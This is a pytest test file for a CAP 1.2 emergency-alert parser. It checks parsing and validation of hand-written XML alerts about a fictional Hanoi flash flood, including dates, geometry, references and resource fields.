"""CAP 1.2 parsing and validation, written against documents built by hand from the OASIS standard."""

import contextlib
import hashlib
import re
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from controller.domain import cap
from controller.domain.cap import (
    PRIORITY_MAPPING,
    CapAlert,
    CapArea,
    CapCircle,
    CapError,
    CapInfo,
    CapPriority,
    CapReference,
    CapStatus,
    Category,
    Certainty,
    MsgType,
    ResponseType,
    Scope,
    Severity,
    Urgency,
    ValuePair,
    format_cap_datetime,
    parse_cap,
    parse_cap_datetime,
    preferred_info,
    priority_for,
)
from controller.domain.priority import PriorityClass

ICT = timezone(timedelta(hours=7))
SPOKEN_BYTES = b"ID3\x00\x01\x02"
SPOKEN_DIGEST = hashlib.sha1(SPOKEN_BYTES, usedforsecurity=False).hexdigest()

FULL_ALERT = f"""<?xml version="1.0" encoding="UTF-8"?>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"
       xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
       xsi:schemaLocation="urn:oasis:names:tc:emergency:cap:1.2 CAP-v1.2.xsd">
  <identifier>VN-HN-IOC-2026-0042</identifier>
  <sender>ioc@hanoi.gov.vn</sender>
  <sent>2026-11-24T17:30:00+07:00</sent>
  <status>Actual</status>
  <msgType>Alert</msgType>
  <source>Trung tâm Điều hành thông minh Hà Nội</source>
  <scope>Public</scope>
  <code>IOC-FLOOD</code>
  <code>VN-PCTT</code>
  <note>Written by hand for the tests</note>
  <incidents>flood-2026-11 "Tô Lịch rise"</incidents>
  <info>
    <language>en-US</language>
    <category>Met</category>
    <category>Safety</category>
    <event>Flash flood</event>
    <responseType>Evacuate</responseType>
    <responseType>Monitor</responseType>
    <urgency>Immediate</urgency>
    <severity>Severe</severity>
    <certainty>Observed</certainty>
    <audience>Residents of low-lying groups</audience>
    <eventCode>
      <valueName>SAME</valueName>
      <value>FFW</value>
    </eventCode>
    <effective>2026-11-24T17:30:00+07:00</effective>
    <onset>2026-11-24T18:00:00+07:00</onset>
    <expires>2026-11-24T23:30:00+07:00</expires>
    <senderName>Hanoi Intelligent Operations Center</senderName>
    <headline>Flash flood warning</headline>
    <description>Water is rising fast along the To Lich river.</description>
    <instruction>Move to higher ground now.</instruction>
    <web>https://ioc.hanoi.gov.vn/alerts/42</web>
    <contact>1022</contact>
    <parameter>
      <valueName>WATER_LEVEL_CM</valueName>
      <value>215</value>
    </parameter>
    <resource>
      <resourceDesc>Spoken warning</resourceDesc>
      <mimeType>audio/mpeg</mimeType>
      <size>6</size>
      <uri>warning.mp3</uri>
      <derefUri>SUQzAAEC</derefUri>
      <digest>{SPOKEN_DIGEST}</digest>
    </resource>
    <resource>
      <resourceDesc>Map</resourceDesc>
      <mimeType>image/png</mimeType>
      <uri>https://ioc.hanoi.gov.vn/maps/42.png</uri>
    </resource>
    <area>
      <areaDesc>Cau Giay ward, groups 1-3</areaDesc>
      <polygon>21.03,105.79 21.04,105.79 21.04,105.80 21.03,105.80 21.03,105.79</polygon>
      <circle>21.035,105.795 0.5</circle>
      <altitude>10</altitude>
      <ceiling>200.5</ceiling>
    </area>
    <area>
      <areaDesc>Residential group 7</areaDesc>
      <geocode>
        <valueName>VN_WARD_CODE</valueName>
        <value>00166</value>
      </geocode>
      <geocode>
        <valueName>WARDCAST_AREA</valueName>
        <value>hn.caugiay.t07</value>
      </geocode>
    </area>
  </info>
  <info>
    <language>vi-VN</language>
    <category>Met</category>
    <event>Lũ quét</event>
    <responseType>Evacuate</responseType>
    <urgency>Immediate</urgency>
    <severity>Severe</severity>
    <certainty>Observed</certainty>
    <expires>2026-11-24T23:30:00+07:00</expires>
    <headline>Cảnh báo lũ quét</headline>
    <instruction>Di chuyển ngay lên vùng cao.</instruction>
    <area>
      <areaDesc>Phường Cầu Giấy, tổ 1–3</areaDesc>
      <polygon>21.03,105.79 21.04,105.79 21.04,105.80 21.03,105.80 21.03,105.79</polygon>
    </area>
  </info>
</alert>
"""

# One of every container, each element on its own line so that tests can drop or swap lines.
MINIMAL_ALERT = """<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">
  <identifier>TEST-1</identifier>
  <sender>ioc@example.vn</sender>
  <sent>2026-11-24T10:00:00+07:00</sent>
  <status>Actual</status>
  <msgType>Alert</msgType>
  <scope>Public</scope>
  <info>
    <category>Met</category>
    <event>Flood</event>
    <urgency>Expected</urgency>
    <severity>Moderate</severity>
    <certainty>Likely</certainty>
    <expires>2026-11-24T16:00:00+07:00</expires>
    <resource>
      <resourceDesc>Audio</resourceDesc>
      <mimeType>audio/mpeg</mimeType>
      <uri>https://example.vn/a.mp3</uri>
    </resource>
    <area>
      <areaDesc>Ward 1</areaDesc>
      <polygon>21.0,105.8 21.1,105.8 21.1,105.9 21.0,105.8</polygon>
      <circle>21.05,105.85 1.5</circle>
      <geocode>
        <valueName>VN_WARD_CODE</valueName>
        <value>00166</value>
      </geocode>
    </area>
  </info>
</alert>
"""
INFO = "alert/info[0]"
AREA = f"{INFO}/area[0]"
POLYGON = f"{AREA}/polygon[0]"
CIRCLE = f"{AREA}/circle[0]"


def edited(old: str, new: str, document: str = MINIMAL_ALERT) -> str:
    assert document.count(old) == 1, f"{old!r} must occur exactly once"
    return document.replace(old, new)


def cap_error(document: str | bytes) -> CapError:
    with pytest.raises(CapError) as raised:
        parse_cap(document.encode() if isinstance(document, str) else document)
    return raised.value


# --- Valid documents ------------------------------------------------------------------------------


def test_full_alert_parses_every_element():
    alert = parse_cap(FULL_ALERT.encode())
    assert alert.identifier == "VN-HN-IOC-2026-0042"
    assert alert.sender == "ioc@hanoi.gov.vn"
    assert alert.sent == datetime(2026, 11, 24, 17, 30, tzinfo=ICT)
    assert alert.sent.utcoffset() == timedelta(hours=7)
    assert alert.status is CapStatus.ACTUAL
    assert alert.msg_type is MsgType.ALERT
    assert alert.source == "Trung tâm Điều hành thông minh Hà Nội"
    assert alert.scope is Scope.PUBLIC
    assert alert.restriction is None
    assert alert.addresses == ()
    assert alert.codes == ("IOC-FLOOD", "VN-PCTT")
    assert alert.note == "Written by hand for the tests"
    assert alert.references == ()
    assert alert.incidents == ("flood-2026-11", "Tô Lịch rise")
    assert len(alert.infos) == 2

    english, vietnamese = alert.infos
    assert english.language == "en-US"
    assert english.categories == (Category.MET, Category.SAFETY)
    assert english.event == "Flash flood"
    assert english.response_types == (ResponseType.EVACUATE, ResponseType.MONITOR)
    assert (english.urgency, english.severity, english.certainty) == (
        Urgency.IMMEDIATE,
        Severity.SEVERE,
        Certainty.OBSERVED,
    )
    assert english.audience == "Residents of low-lying groups"
    assert english.event_codes == (ValuePair("SAME", "FFW"),)
    assert english.effective == datetime(2026, 11, 24, 17, 30, tzinfo=ICT)
    assert english.onset == datetime(2026, 11, 24, 18, 0, tzinfo=ICT)
    assert english.expires == datetime(2026, 11, 24, 23, 30, tzinfo=ICT)
    assert english.sender_name == "Hanoi Intelligent Operations Center"
    assert english.headline == "Flash flood warning"
    assert english.description == "Water is rising fast along the To Lich river."
    assert english.instruction == "Move to higher ground now."
    assert english.web == "https://ioc.hanoi.gov.vn/alerts/42"
    assert english.contact == "1022"
    assert english.parameters == (ValuePair("WATER_LEVEL_CM", "215"),)

    spoken, picture = english.resources
    assert spoken.resource_desc == "Spoken warning"
    assert spoken.mime_type == "audio/mpeg"
    assert spoken.size == 6
    assert spoken.uri == "warning.mp3"  # relative: it names the embedded derefUri content
    assert spoken.deref_data == SPOKEN_BYTES
    assert spoken.digest == SPOKEN_DIGEST
    assert picture.uri == "https://ioc.hanoi.gov.vn/maps/42.png"
    assert picture.deref_data is None

    polygon_area, geocode_area = english.areas
    assert polygon_area.area_desc == "Cau Giay ward, groups 1-3"
    assert polygon_area.polygons == (
        ((21.03, 105.79), (21.04, 105.79), (21.04, 105.80), (21.03, 105.80), (21.03, 105.79)),
    )
    assert polygon_area.circles == (CapCircle((21.035, 105.795), 0.5),)
    assert polygon_area.circles[0].radius_km == 0.5
    assert (polygon_area.altitude, polygon_area.ceiling) == (10.0, 200.5)
    assert geocode_area.geocodes == (
        ValuePair("VN_WARD_CODE", "00166"),
        ValuePair("WARDCAST_AREA", "hn.caugiay.t07"),
    )
    assert geocode_area.polygons == ()

    assert vietnamese.language == "vi-VN"
    assert vietnamese.event == "Lũ quét"
    assert vietnamese.headline == "Cảnh báo lũ quét"
    assert vietnamese.areas[0].area_desc == "Phường Cầu Giấy, tổ 1–3"


def test_minimal_alert_uses_the_defaults():
    alert = parse_cap(MINIMAL_ALERT.encode())
    (info,) = alert.infos
    assert info.language == "en-US"
    assert info.response_types == ()
    assert info.web is None
    assert alert.sent.utcoffset() == timedelta(hours=7)


def test_alert_without_info_is_valid():
    start = MINIMAL_ALERT.index("  <info>")
    end = MINIMAL_ALERT.index("</info>") + len("</info>\n")
    alert = parse_cap((MINIMAL_ALERT[:start] + MINIMAL_ALERT[end:]).encode())
    assert alert.infos == ()
    assert preferred_info(alert) is None


def test_update_references_the_alert_it_supersedes():
    original = parse_cap(FULL_ALERT.encode())
    update = parse_cap(
        edited(
            "<scope>Public</scope>",
            "<scope>Public</scope>\n"
            "  <references>ioc@hanoi.gov.vn,VN-HN-IOC-2026-0042,2026-11-24T17:30:00+07:00</references>",
            edited("<msgType>Alert</msgType>", "<msgType>Update</msgType>"),
        ).encode()
    )
    assert update.msg_type is MsgType.UPDATE
    assert update.references == (
        CapReference("ioc@hanoi.gov.vn", "VN-HN-IOC-2026-0042", datetime(2026, 11, 24, 17, 30, tzinfo=ICT)),
    )
    assert original.reference in update.references


def test_cancel_references_two_earlier_messages():
    references = (
        "ioc@hanoi.gov.vn,VN-HN-1,2026-11-24T08:00:00+07:00\n"
        "    ioc@hanoi.gov.vn,VN-HN-2,2026-11-24T01:00:00-00:00"
    )
    document = edited("<msgType>Alert</msgType>", "<msgType>Cancel</msgType>")
    document = edited(
        "<scope>Public</scope>", f"<scope>Public</scope>\n  <references>{references}</references>", document
    )
    alert = parse_cap(document.encode())
    assert alert.msg_type is MsgType.CANCEL
    assert [reference.identifier for reference in alert.references] == ["VN-HN-1", "VN-HN-2"]
    # Same instant, written in two zones.
    assert alert.references[0].sent == alert.references[1].sent
    assert alert.references[1].sent.utcoffset() == timedelta(0)


@pytest.mark.parametrize("msg_type", ["Update", "Cancel", "Ack", "Error"])
def test_messages_acting_on_earlier_ones_need_references(msg_type):
    error = cap_error(edited("<msgType>Alert</msgType>", f"<msgType>{msg_type}</msgType>"))
    assert error.element == "alert/references"
    assert msg_type in error.detail


def test_exercise_is_a_drill():
    alert = parse_cap(
        edited(
            "<scope>Public</scope>",
            "<scope>Public</scope>\n  <note>Diễn tập phòng chống lụt bão</note>",
            edited("<status>Actual</status>", "<status>Exercise</status>"),
        ).encode()
    )
    assert alert.status is CapStatus.EXERCISE
    assert alert.status.broadcast_mode == "drill"
    assert alert.note == "Diễn tập phòng chống lụt bão"


@pytest.mark.parametrize(
    ("status", "mode"),
    [
        (CapStatus.ACTUAL, "live"),
        (CapStatus.EXERCISE, "drill"),
        (CapStatus.TEST, "drill"),
        (CapStatus.SYSTEM, None),
        (CapStatus.DRAFT, None),
    ],
)
def test_status_maps_to_a_broadcast_mode(status, mode):
    assert status.broadcast_mode == mode


def test_restricted_scope_needs_a_restriction():
    restricted = edited("<scope>Public</scope>", "<scope>Restricted</scope>")
    error = cap_error(restricted)
    assert error.element == "alert/restriction"
    alert = parse_cap(
        edited(
            "<scope>Restricted</scope>",
            "<scope>Restricted</scope>\n  <restriction>Ward staff only</restriction>",
            restricted,
        ).encode()
    )
    assert alert.restriction == "Ward staff only"


def test_private_scope_needs_addresses():
    private = edited("<scope>Public</scope>", "<scope>Private</scope>")
    assert cap_error(private).element == "alert/addresses"
    alert = parse_cap(
        edited(
            "<scope>Private</scope>",
            '<scope>Private</scope>\n  <addresses>ward-01 "Cau Giay staff" ops@example.vn</addresses>',
            private,
        ).encode()
    )
    assert alert.addresses == ("ward-01", "Cau Giay staff", "ops@example.vn")


def test_unbalanced_quote_in_addresses_is_named():
    document = edited("<scope>Public</scope>", '<scope>Public</scope>\n  <addresses>a "b c</addresses>')
    assert cap_error(document).element == "alert/addresses"


def test_xsi_attributes_and_a_trailing_signature_are_accepted():
    signature = '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo/></Signature>\n</alert>'
    alert = parse_cap(edited("</alert>", signature, FULL_ALERT).encode())
    assert len(alert.infos) == 2


def test_surrounding_whitespace_in_values_is_ignored():
    alert = parse_cap(edited("<status>Actual</status>", "<status>\n    Actual\n  </status>").encode())
    assert alert.status is CapStatus.ACTUAL


def test_declared_encoding_is_honoured():
    document = '<?xml version="1.0" encoding="UTF-16"?>\n' + edited(
        "<event>Flood</event>", "<event>Lũ</event>"
    )
    alert = parse_cap(document.encode("utf-16"))
    assert alert.infos[0].event == "Lũ"


# --- Required elements, enumerations, order -------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "element"),
    [
        ("<identifier>TEST-1</identifier>", "alert/identifier"),
        ("<sender>ioc@example.vn</sender>", "alert/sender"),
        ("<sent>2026-11-24T10:00:00+07:00</sent>", "alert/sent"),
        ("<status>Actual</status>", "alert/status"),
        ("<msgType>Alert</msgType>", "alert/msgType"),
        ("<scope>Public</scope>", "alert/scope"),
        ("<category>Met</category>", f"{INFO}/category"),
        ("<event>Flood</event>", f"{INFO}/event"),
        ("<urgency>Expected</urgency>", f"{INFO}/urgency"),
        ("<severity>Moderate</severity>", f"{INFO}/severity"),
        ("<certainty>Likely</certainty>", f"{INFO}/certainty"),
        ("<resourceDesc>Audio</resourceDesc>", f"{INFO}/resource[0]/resourceDesc"),
        ("<mimeType>audio/mpeg</mimeType>", f"{INFO}/resource[0]/mimeType"),
        ("<areaDesc>Ward 1</areaDesc>", f"{AREA}/areaDesc"),
        ("<valueName>VN_WARD_CODE</valueName>", f"{AREA}/geocode[0]/valueName"),
        ("<value>00166</value>", f"{AREA}/geocode[0]/value"),
    ],
)
def test_each_missing_required_element_is_named(line, element):
    error = cap_error(edited(line, ""))
    assert error.element == element
    assert "missing" in error.detail


@pytest.mark.parametrize(
    ("line", "element"),
    [
        ("<identifier>TEST-1</identifier>", "alert/identifier"),
        ("<event>Flood</event>", f"{INFO}/event"),
        ("<areaDesc>Ward 1</areaDesc>", f"{AREA}/areaDesc"),
        ("<mimeType>audio/mpeg</mimeType>", f"{INFO}/resource[0]/mimeType"),
    ],
)
def test_required_text_must_not_be_empty(line, element):
    tag = line[1 : line.index(">")]
    error = cap_error(edited(line, f"<{tag}>  </{tag}>"))
    assert error.element == element


@pytest.mark.parametrize(
    ("line", "wrong", "element"),
    [
        ("<status>Actual</status>", "<status>actual</status>", "alert/status"),
        ("<status>Actual</status>", "<status>Live</status>", "alert/status"),
        ("<msgType>Alert</msgType>", "<msgType>Warning</msgType>", "alert/msgType"),
        ("<scope>Public</scope>", "<scope>Everyone</scope>", "alert/scope"),
        ("<category>Met</category>", "<category>Weather</category>", f"{INFO}/category[0]"),
        (
            "<category>Met</category>",
            "<category>Met</category>\n    <category>Flood</category>",
            f"{INFO}/category[1]",
        ),
        (
            "<event>Flood</event>",
            "<event>Flood</event>\n    <responseType>Run</responseType>",
            f"{INFO}/responseType[0]",
        ),
        ("<urgency>Expected</urgency>", "<urgency>Soon</urgency>", f"{INFO}/urgency"),
        ("<severity>Moderate</severity>", "<severity>Major</severity>", f"{INFO}/severity"),
        # CAP 1.0's "Very Likely" was dropped from the standard in 1.1.
        ("<certainty>Likely</certainty>", "<certainty>Very Likely</certainty>", f"{INFO}/certainty"),
    ],
)
def test_each_wrong_enumeration_is_named(line, wrong, element):
    error = cap_error(edited(line, wrong))
    assert error.element == element
    assert "must be one of" in error.detail


def test_every_enumeration_value_of_the_standard_is_accepted():
    assert [s.value for s in CapStatus] == ["Actual", "Exercise", "System", "Test", "Draft"]
    assert [m.value for m in MsgType] == ["Alert", "Update", "Cancel", "Ack", "Error"]
    assert [s.value for s in Scope] == ["Public", "Restricted", "Private"]
    assert len(Category) == 12
    assert [r.value for r in ResponseType][-2:] == ["AllClear", "None"]
    categories = "".join(f"<category>{category}</category>" for category in Category)
    responses = "".join(f"<responseType>{response}</responseType>" for response in ResponseType)
    document = edited(
        "<category>Met</category>\n    <event>Flood</event>",
        f"{categories}\n    <event>Flood</event>{responses}",
    )
    (info,) = parse_cap(document.encode()).infos
    assert info.categories == tuple(Category)
    assert info.response_types == tuple(ResponseType)


@pytest.mark.parametrize(
    ("first", "second", "element"),
    [
        ("<identifier>TEST-1</identifier>", "<sender>ioc@example.vn</sender>", "alert/identifier"),
        ("<status>Actual</status>", "<msgType>Alert</msgType>", "alert/status"),
        ("<urgency>Expected</urgency>", "<severity>Moderate</severity>", f"{INFO}/urgency"),
        ("<category>Met</category>", "<event>Flood</event>", f"{INFO}/category[0]"),
        (
            "<resourceDesc>Audio</resourceDesc>",
            "<mimeType>audio/mpeg</mimeType>",
            f"{INFO}/resource[0]/resourceDesc",
        ),
        (
            "<polygon>21.0,105.8 21.1,105.8 21.1,105.9 21.0,105.8</polygon>",
            "<circle>21.05,105.85 1.5</circle>",
            POLYGON,
        ),
    ],
)
def test_elements_out_of_order_are_named(first, second, element):
    swapped = edited(first + "\n", "@@FIRST@@\n")
    swapped = edited(second + "\n", first + "\n", swapped).replace("@@FIRST@@", second)
    error = cap_error(swapped)
    assert error.element == element
    assert "out of order" in error.detail


def test_info_before_alert_header_elements_is_out_of_order():
    start = MINIMAL_ALERT.index("  <info>")
    end = MINIMAL_ALERT.index("</info>") + len("</info>\n")
    info = MINIMAL_ALERT[start:end]
    document = edited(
        "  <scope>Public</scope>\n",
        info + "  <scope>Public</scope>\n",
        MINIMAL_ALERT[:start] + MINIMAL_ALERT[end:],
    )
    error = cap_error(document)
    assert error.element == "alert/scope"


@pytest.mark.parametrize(
    ("line", "element"),
    [
        ("<sent>2026-11-24T10:00:00+07:00</sent>", "alert/sent"),
        ("<event>Flood</event>", f"{INFO}/event"),
        ("<areaDesc>Ward 1</areaDesc>", f"{AREA}/areaDesc"),
    ],
)
def test_single_elements_may_not_repeat(line, element):
    error = cap_error(edited(line, line + line))
    assert error.element == element
    assert "only once" in error.detail


@pytest.mark.parametrize(
    ("line", "replacement", "element"),
    [
        ("<scope>Public</scope>", "<scope>Public</scope><priority>1</priority>", "alert/priority"),
        ("<event>Flood</event>", "<event>Flood</event><eventName>x</eventName>", f"{INFO}/eventName"),
        ("<areaDesc>Ward 1</areaDesc>", "<areaDesc>Ward 1</areaDesc><point>1,2</point>", f"{AREA}/point"),
        (
            "<event>Flood</event>",
            '<event>Flood</event><x:extra xmlns:x="urn:example:extension">1</x:extra>',
            f"{INFO}/extra",
        ),
        # An element without a namespace is not a CAP element, even if it is spelled like one.
        ("<event>Flood</event>", '<event xmlns="">Flood</event>', f"{INFO}/event"),
    ],
)
def test_unknown_elements_are_refused(line, replacement, element):
    assert cap_error(edited(line, replacement)).element == element


def test_attributes_on_cap_elements_are_refused():
    error = cap_error(edited("<event>Flood</event>", '<event lang="vi">Flood</event>'))
    assert error.element == f"{INFO}/event"


def test_stray_text_between_elements_is_refused():
    assert cap_error(edited("<scope>Public</scope>", "<scope>Public</scope> oops")).element == "alert"
    error = cap_error(edited("<areaDesc>Ward 1</areaDesc>", "text<areaDesc>Ward 1</areaDesc>"))
    assert error.element == AREA


def test_elements_inside_a_text_element_are_refused():
    error = cap_error(edited("<event>Flood</event>", "<event><b>Flood</b></event>"))
    assert error.element == f"{INFO}/event"


def test_cap_element_after_the_signature_is_refused():
    document = edited(
        "</info>\n</alert>",
        '</info>\n<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/>\n'
        "<info><category>Met</category><event>x</event><urgency>Past</urgency>"
        "<severity>Minor</severity><certainty>Observed</certainty></info>\n</alert>",
    )
    assert cap_error(document).element == "alert/info[1]"


# --- Identifiers, dates, references ---------------------------------------------------------------


@pytest.mark.parametrize("bad", ["TEST 1", "TEST,1", "TEST&amp;1", "TEST&lt;1", "TEST\t1"])
def test_identifier_refuses_spaces_commas_and_restricted_characters(bad):
    assert cap_error(
        edited("<identifier>TEST-1</identifier>", f"<identifier>{bad}</identifier>")
    ).element == ("alert/identifier")


@pytest.mark.parametrize("bad", ["ioc hanoi", "ioc,hanoi"])
def test_sender_refuses_spaces_and_commas(bad):
    assert (
        cap_error(edited("<sender>ioc@example.vn</sender>", f"<sender>{bad}</sender>")).element
        == "alert/sender"
    )


@pytest.mark.parametrize(
    ("text", "hint"),
    [
        ("2026-11-24T03:00:00Z", "'Z' is not allowed"),
        ("2026-11-24T10:00:00.5+07:00", "fractional seconds"),
        ("2026-11-24T10:00:00.000+07:00", "fractional seconds"),
        ("2026-11-24T10:00:00", "YYYY-MM-DDThh:mm:ss"),
        ("2026-11-24T10:00+07:00", "YYYY-MM-DDThh:mm:ss"),
        ("2026-11-24 10:00:00+07:00", "YYYY-MM-DDThh:mm:ss"),
        ("2026-11-24T10:00:00+0700", "YYYY-MM-DDThh:mm:ss"),
        ("24/11/2026 10:00", "YYYY-MM-DDThh:mm:ss"),
        ("2026-02-30T10:00:00+07:00", "not a real date"),
        ("2026-11-24T24:00:00+07:00", "not a real date"),
        ("2026-11-24T03:00:00+00:00", "-00:00"),
        ("2026-11-24T10:00:00+15:00", "out of range"),
        ("2026-11-24T10:00:00+07:60", "out of range"),
        ("２０２６-11-24T10:00:00+07:00", "YYYY-MM-DDThh:mm:ss"),
    ],
)
def test_bad_date_times_are_refused(text, hint):
    error = cap_error(edited("<sent>2026-11-24T10:00:00+07:00</sent>", f"<sent>{text}</sent>"))
    assert error.element == "alert/sent"
    assert hint in error.detail


def test_bad_date_time_in_info_is_named():
    error = cap_error(
        edited("<expires>2026-11-24T16:00:00+07:00</expires>", "<expires>2026-11-24T16:00:00Z</expires>")
    )
    assert error.element == f"{INFO}/expires"


def test_utc_is_written_minus_zero():
    assert parse_cap_datetime("2026-11-24T03:00:00-00:00") == datetime(2026, 11, 24, 3, tzinfo=UTC)
    assert parse_cap_datetime("2026-11-24T10:00:00+07:00") == datetime(2026, 11, 24, 3, tzinfo=UTC)
    assert parse_cap_datetime("2026-11-23T22:30:00-04:30").utcoffset() == -timedelta(hours=4, minutes=30)


@given(
    st.datetimes(
        min_value=datetime(1900, 1, 1),  # noqa: DTZ001 - bounds for naive values given a zone below
        max_value=datetime(2200, 1, 1),  # noqa: DTZ001
        timezones=st.integers(min_value=-14 * 60, max_value=14 * 60).map(
            lambda minutes: timezone(timedelta(minutes=minutes))
        ),
    )
)
def test_cap_date_times_round_trip(moment):
    text = format_cap_datetime(moment)
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d", text)
    assert not text.endswith("+00:00")
    parsed = parse_cap_datetime(text)
    assert parsed == moment.replace(microsecond=0)
    assert parsed.utcoffset() == moment.utcoffset()


def test_naive_date_time_cannot_be_formatted():
    with pytest.raises(ValueError, match="time zone"):
        format_cap_datetime(datetime(2026, 11, 24))  # noqa: DTZ001 - the point of the test


@pytest.mark.parametrize(
    "references",
    [
        "ioc@example.vn,TEST-0",
        "ioc@example.vn,TEST-0,2026-11-24T10:00:00+07:00,extra",
        "ioc@example.vn,TEST-0,2026-11-24T03:00:00Z",
        ",TEST-0,2026-11-24T10:00:00+07:00",
        "ioc@example.vn,TEST-0,2026-11-24T10:00:00+07:00 ioc@example.vn,TEST-1",
        "ioc@example.vn,TEST&amp;0,2026-11-24T10:00:00+07:00",
        "",
    ],
)
def test_bad_references_are_refused(references):
    document = edited(
        "<scope>Public</scope>", f"<scope>Public</scope>\n  <references>{references}</references>"
    )
    error = cap_error(edited("<msgType>Alert</msgType>", "<msgType>Update</msgType>", document))
    assert error.element == "alert/references"


# --- Geometry ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("polygon", "hint"),
    [
        ("21.0,105.8 21.1,105.8 21.0,105.8", "at least 4"),
        ("21.0,105.8 21.1,105.8 21.1,105.9 21.0,105.9", "not closed"),
        ("91.0,105.8 21.1,105.8 21.1,105.9 91.0,105.8", "latitude"),
        ("21.0,185.8 21.1,105.8 21.1,105.9 21.0,185.8", "longitude"),
        ("21.0 105.8 21.1 105.8 21.1 105.9 21.0 105.8", "lat,lon"),
        ("21.0,105.8 21.1;105.8 21.1,105.9 21.0,105.8", "lat,lon"),
        ("21.0,105.8,0 21.1,105.8,0 21.1,105.9,0 21.0,105.8,0", "lat,lon"),
        ("nan,105.8 21.1,105.8 21.1,105.9 nan,105.8", "lat,lon"),
        ("1e1,105.8 21.1,105.8 21.1,105.9 1e1,105.8", "lat,lon"),
        ("21.0, 105.8 21.1, 105.8 21.1, 105.9 21.0, 105.8", "lat,lon"),
        ("", "at least 4"),
    ],
)
def test_bad_polygons_are_named(polygon, hint):
    error = cap_error(
        edited(
            "<polygon>21.0,105.8 21.1,105.8 21.1,105.9 21.0,105.8</polygon>", f"<polygon>{polygon}</polygon>"
        )
    )
    assert error.element == POLYGON
    assert hint in error.detail


def test_second_bad_polygon_is_named_by_index():
    good = "<polygon>21.0,105.8 21.1,105.8 21.1,105.9 21.0,105.8</polygon>"
    error = cap_error(edited(good, good + "<polygon>1,2 3,4 5,6</polygon>"))
    assert error.element == f"{AREA}/polygon[1]"


def test_polygon_pairs_may_be_separated_by_any_whitespace():
    document = edited(
        "<polygon>21.0,105.8 21.1,105.8 21.1,105.9 21.0,105.8</polygon>",
        "<polygon>\n  21.0,105.8\n  21.1,105.8\t21.1,105.9   -21.0,-105.8 +21.0,105.8 21.0,105.8\n</polygon>",
    )
    (polygon,) = parse_cap(document.encode()).infos[0].areas[0].polygons
    assert polygon[3] == (-21.0, -105.8)
    assert len(polygon) == 6


@pytest.mark.parametrize(
    ("circle", "hint"),
    [
        ("21.05,105.85", "lat,lon radius"),
        ("21.05,105.85 1 2", "lat,lon radius"),
        ("21.05,105.85 -1", "negative"),
        ("21.05,105.85 abc", "decimal"),
        ("21.05,105.85 inf", "decimal"),
        ("21.05,105.85 " + "9" * 400, "too large"),
        ("95.0,105.85 1", "latitude"),
        ("21.05 105.85 1", "lat,lon radius"),
    ],
)
def test_bad_circles_are_named(circle, hint):
    error = cap_error(edited("<circle>21.05,105.85 1.5</circle>", f"<circle>{circle}</circle>"))
    assert error.element == CIRCLE
    assert hint in error.detail


def test_circle_of_radius_zero_is_a_point():
    document = edited("<circle>21.05,105.85 1.5</circle>", "<circle>21.05,105.85 0</circle>")
    assert parse_cap(document.encode()).infos[0].areas[0].circles == (CapCircle((21.05, 105.85), 0.0),)


@pytest.mark.parametrize(
    ("extra", "element"),
    [
        ("<ceiling>100</ceiling>", f"{AREA}/ceiling"),
        ("<altitude>high</altitude>", f"{AREA}/altitude"),
        ("<altitude>100</altitude><ceiling>50</ceiling>", f"{AREA}/ceiling"),
        ("<altitude>100</altitude><ceiling>1e3</ceiling>", f"{AREA}/ceiling"),
    ],
)
def test_altitude_and_ceiling_rules(extra, element):
    error = cap_error(edited("</geocode>\n    </area>", f"</geocode>{extra}\n    </area>"))
    assert error.element == element


# --- Other values -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "replacement", "element"),
    [
        # size belongs before uri
        ("<uri>https://example.vn/a.mp3</uri>", "<uri>https://example.vn/a.mp3</uri><size>1</size>", "size"),
        ("<uri>https://example.vn/a.mp3</uri>", "<size>-1</size><uri>https://example.vn/a.mp3</uri>", "size"),
        (
            "<uri>https://example.vn/a.mp3</uri>",
            "<size>1.5</size><uri>https://example.vn/a.mp3</uri>",
            "size",
        ),
        (
            "<uri>https://example.vn/a.mp3</uri>",
            "<size>" + "1" * 30 + "</size><uri>https://example.vn/a.mp3</uri>",
            "size",
        ),
        ("<uri>https://example.vn/a.mp3</uri>", "<uri>a.mp3</uri>", "uri"),
        ("<uri>https://example.vn/a.mp3</uri>", "<uri>https://example.vn/a b.mp3</uri>", "uri"),
        (
            "<uri>https://example.vn/a.mp3</uri>",
            "<uri>a.mp3</uri><derefUri>not base64!</derefUri>",
            "derefUri",
        ),
        ("<uri>https://example.vn/a.mp3</uri>", "<uri>a.mp3</uri><derefUri> </derefUri>", "derefUri"),
        (
            "<uri>https://example.vn/a.mp3</uri>",
            "<uri>a.mp3</uri><derefUri>QUJD</derefUri><digest>abc</digest>",
            "digest",
        ),
        ("<mimeType>audio/mpeg</mimeType>", "<mimeType>mp3</mimeType>", "mimeType"),
    ],
)
def test_bad_resource_values_are_named(line, replacement, element):
    error = cap_error(edited(line, replacement))
    assert error.element == f"{INFO}/resource[0]/{element}"


def test_embedded_resource_with_wrapped_base64():
    document = edited(
        "<uri>https://example.vn/a.mp3</uri>",
        "<size>6</size><uri>a.mp3</uri><derefUri>SUQz\n        AAEC</derefUri>",
    )
    (resource,) = parse_cap(document.encode()).infos[0].resources
    assert resource.deref_data == SPOKEN_BYTES
    assert resource.size == 6


@pytest.mark.parametrize(
    ("line", "replacement", "element"),
    [
        (
            "<category>Met</category>",
            "<language>vi_VN</language><category>Met</category>",
            f"{INFO}/language",
        ),
        ("<category>Met</category>", "<language></language><category>Met</category>", f"{INFO}/language"),
        (
            "<expires>2026-11-24T16:00:00+07:00</expires>",
            "<expires>2026-11-24T16:00:00+07:00</expires><web>/alerts/1</web>",
            f"{INFO}/web",
        ),
        ("<value>00166</value>", "<value>00166</value><value>2</value>", f"{AREA}/geocode[0]/value"),
    ],
)
def test_other_bad_values_are_named(line, replacement, element):
    assert cap_error(edited(line, replacement)).element == element


def test_value_pairs_are_named_by_index():
    document = edited("<geocode>", "<geocode><valueName>A</valueName><value>1</value></geocode><geocode>")
    document = edited("<valueName>VN_WARD_CODE</valueName>", "<valueName> </valueName>", document)
